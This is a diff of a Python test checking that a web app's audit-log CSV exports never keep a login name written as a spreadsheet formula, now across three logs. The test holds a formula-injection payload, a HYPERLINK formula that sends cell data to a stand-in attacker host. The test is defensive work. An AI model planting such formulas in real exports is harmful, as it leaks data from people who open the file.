@@ -901,7 +901,7 @@ def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports
 
 
 def test_audit_csv_does_not_turn_a_login_name_into_a_spreadsheet_formula(app, client, ana):
-    """A name like =HYPERLINK(...) typed at the login page never reaches either log (a
+    """A name like =HYPERLINK(...) typed at the login page never reaches any log (a
     failed login is recorded as an unknown name), and a cell that could still start like
     a formula is neutralised: cells starting with = + - @ are prefixed with '."""
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
@@ -909,7 +909,8 @@ def test_audit_csv_does_not_turn_a_login_name_into_a_spreadsheet_formula(app, cl
     resp = client.post("/login", data={"name": formula, "password": "wrong password!",
                                        "csrf_token": token})
     assert resp.status_code == 401
-    rows = [row for log in ("", "?log=security") for row in csv.reader(io.StringIO(
+    rows = [row for log in ("", "?log=security", "?log=failed-logins")
+            for row in csv.reader(io.StringIO(
         ana.client.get(f"/admin/audit.csv{log}").text))]
     assert ["", "failed login, unknown name", "127.0.0.1"] in [row[1:] for row in rows]
     assert not any("HYPERLINK" in cell for row in rows for cell in row)  # not kept at all
